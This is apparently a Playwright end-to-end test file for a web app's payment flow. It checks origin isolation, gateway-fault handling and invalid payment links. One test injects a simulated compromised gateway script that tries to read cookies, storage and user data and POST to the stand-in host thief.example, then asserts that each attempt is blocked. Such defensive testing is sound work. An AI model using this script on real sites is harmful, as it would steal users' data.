import { toPayOrigin } from "../../local/ports.ts";
import { checkOut, expectHeading, LANGUAGES, setLanguage, TEXTS } from "./checkout.ts";
import { expect, expectAccessible, test } from "./fixtures.ts";
import { inWindow, planFault, withoutWebhooks } from "./gateway.ts";
import { expectOneOfEach, getOrders } from "./purchase.ts";

/** A compromised script of the gateway. It tries to read the user's data, and writes what it read to the page. */
const HOSTILE = (application: string) => `
  const attempts = {
    cookies: () => document.cookie,
    storage: () => Object.keys(localStorage).join(),
    read: async () => (await fetch("${application}/api/user", { credentials: "include" })).status,
    send: async () => {
      await fetch("https://thief.example/", { method: "POST", mode: "no-cors", body: "x" });
      return "sent";
    },
    own: async () => (await fetch("/user/login")).status,
    frame: async () => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      const loaded = new Promise((done) => frame.addEventListener("load", done));
      frame.src = "${application}/";
      await loaded;
      return frame.contentDocument?.title ?? "none";
    },
  };
  const got = {};
  window.PortOne = { requestIssueBillingKey: async () => {
    for (const [name, attempt] of Object.entries(attempts)) {
      got[name] = await Promise.resolve().then(attempt).catch(() => "blocked");
    }
    document.title = JSON.stringify(got);
    return new Promise(() => {});
  } };
`;

for (const language of LANGUAGES) {
  test(`a season is paid on a page with its own origin, and no secret is returned (${language})`, async ({
    page,
    context,
    origin,
    newUser,
    logIn,
  }) => {
    await setLanguage(context, origin, language);
    const buyer = await newUser({ locale: language });
    await logIn(buyer);
    const opened: string[] = [];
    page.on("framenavigated", (frame) => void opened.push(frame.url()));
    await checkOut(page, "season", language);
    await inWindow(page, "pay");
    await expectHeading(page, TEXTS[language].ready);
    await expectAccessible(page);

    const [order] = await getOrders(origin, buyer);
    expect(page.url()).toBe(`${origin}/payment/complete?order=${order?.id}`);
    const payPage = new RegExp(`^${toPayOrigin(origin)}/pay/[\\w.-]+\\?lang=${language}$`);
    expect(opened.filter((url) => payPage.test(url))).toHaveLength(1);
    expect(opened.filter((url) => url.startsWith(origin) && /billing|key|token/i.test(url))).toEqual([]);
    await expectOneOfEach(origin, buyer, "season");
  });

  test(`a return that the gateway does not confirm says so, and is confirmed on retry (${language})`, async ({
    page,
    context,
    origin,
    problems,
    newUser,
    logIn,
  }) => {
    problems.allow(/status of 503/);
    await setLanguage(context, origin, language);
    const buyer = await newUser({ locale: language });
    await logIn(buyer);
    await withoutWebhooks(async () => {
      await checkOut(page, "season", language);
      await planFault("billing-key", "html");
      await inWindow(page, "pay");
      await expectHeading(page, TEXTS[language].pending);
      expect(new URL(page.url()).origin).toBe(toPayOrigin(origin));
      await expect(page.locator("html")).toHaveAttribute("lang", language);
      await expectAccessible(page);
      await page.getByRole("link", { name: TEXTS[language].askAgain }).click();
      await expectHeading(page, TEXTS[language].ready);
    });
    await expectOneOfEach(origin, buyer, "season");
  });

  test(`an invalid payment link says so on its own origin (${language})`, async ({ page, origin, problems }) => {
    problems.allow(/status of 404/);
    await page.goto(`${toPayOrigin(origin)}/pay/x.y.z?lang=${language}`);
    await expectHeading(page, TEXTS[language].nothing);
    await expectAccessible(page);
  });
}

test("a malicious script on the payment page reads no personal data and cannot send any", async ({
  page,
  origin,
  problems,
  newUser,
  logIn,
}) => {
  problems.allow(/Content Security Policy|violates|ERR_BLOCKED|Refused|Framing/i);
  await logIn(await newUser());
  await page.goto("/");
  expect(await page.evaluate(() => document.cookie)).toContain("accessToken=");
  await page.route("**/browser-sdk.js", async (route) =>
    route.fulfill({ contentType: "text/javascript", body: HOSTILE(origin) }),
  );
  await checkOut(page, "season", "en");
  await expect(page).toHaveURL(new RegExp(`^${toPayOrigin(origin)}/pay/`));
  await expect(page).toHaveTitle(/^\{/);
  expect(JSON.parse(await page.title())).toEqual({
    cookies: "",
    storage: "",
    read: "blocked",
    send: "blocked",
    own: "blocked",
    frame: "none",
  });
});

test("the payment origin serves only the payment page, and the application origin does not serve it", async ({
  page,
  origin,
  problems,
  newUser,
  logIn,
}) => {
  problems.allow(/status of 404/);
  await page.goto("/user/login");
  const script = await page.locator('script[type="module"]').first().getAttribute("src");
  for (const path of ["/", "/user/login", "/api/health", "/c/minji", "/sw.js", "/robots.txt", script ?? ""]) {
    // The application's own host responds.
    expect([path, (await page.request.get(path)).status()]).toEqual([path, 200]);
    const answer = await page.goto(`${toPayOrigin(origin)}${path}`);
    expect([path, answer?.status(), await page.content()]).toEqual([
      path,
      404,
      expect.not.stringMatching(/<script|Moa/),
    ]);
  }
  await logIn(await newUser());
  const opened = page.waitForRequest(new RegExp(`^${toPayOrigin(origin)}/pay/`));
  await checkOut(page, "period", "en");
  const { pathname, search } = new URL((await opened).url());
  await expect(page.getByText("A stand-in on this machine")).toBeVisible();
  expect((await page.request.get(`${pathname}${search}`)).status()).toBe(404);
});
